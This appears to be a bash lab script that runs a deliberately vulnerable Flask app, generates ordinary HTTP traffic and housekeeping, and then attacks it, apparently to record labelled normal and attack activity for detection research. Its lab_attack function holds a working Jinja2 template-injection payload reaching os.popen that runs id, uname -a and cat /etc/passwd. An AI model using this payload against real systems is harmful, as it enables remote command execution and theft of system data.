#!/usr/bin/env bash
# flask-ssti: a small Flask app (Debian's python3-flask, werkzeug's
# threaded server) whose /hello page renders the `name` parameter as part
# of a Jinja2 template.
# Normal: a bounded HTTP client fetching the shop page, items, the JSON API
# and /hello with ordinary names, logging in (a session file in /tmp each
# time) and uploading files (a mkstemp temp file in /tmp each time); the
# container's periodic job resolves names, reads the package database,
# removes old sessions and rotates the app's log.
# Attack: template injection reaching os.popen: name={{ cycler.__init__.
# __globals__.os.popen('id').read() }}, then `uname -a` and `cat /etc/passwd`.
set -euo pipefail
SCENARIO=flask-ssti
PORT=${PORT:-15001}
. "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
need curl
"$PY" -c 'import flask' 2>/dev/null || die "python3-flask is missing; run lab/install-deps.sh (as root)"
SERVER_CMD=("$PY" -B "$SRV/app.py" "$PORT")
PAGES=(/ / /api/items /item/1 /item/2 /item/3 /item/9 /hello /hello?name=alice
	/hello?name=bob /hello?name=carol /missing /login POST:/upload POST:/upload)

lab_setup() {
	rm -rf "$SRV"
	mkdir -p "$SRV"/{uploads,logs}
	cp "$LAB/$SCENARIO/app.py" "$SRV/app.py"
}
lab_prepare() { rm -f "$SRV"/uploads/* "$SRV"/logs/* /tmp/sess_* /tmp/upload-*; }
lab_cleanup() { rm -f /tmp/sess_* /tmp/upload-*; }

# The container's periodic job: DNS lookups, package-cache reads, a hashed
# job file in /tmp, old sessions removed, the app's log rotated.
lab_housekeeping() {
	common_housekeeping python3-flask "find /tmp -maxdepth 1 -name 'sess_*' -delete; mv $SRV/logs/app.log $SRV/logs/app.log.1; gzip -f $SRV/logs/app.log.1"
}

lab_normal_load() {
	"$PY" "$LAB/load_http.py" --port "$PORT" --until "$REC_END" --max "$LOAD_MAX" \
		--pause 0.1 --seed "$RANDOM" "${PAGES[@]}"
}

lab_attack() {
	local cmd
	for cmd in id 'uname -a' 'cat /etc/passwd'; do
		echo "SSTI: $cmd"
		timeout 5 curl -s --max-time 3 -G "http://127.0.0.1:$PORT/hello" \
			--data-urlencode "name={{ cycler.__init__.__globals__.os.popen('$cmd').read() }}" | head -n 3
		echo
	done
}

lab_main
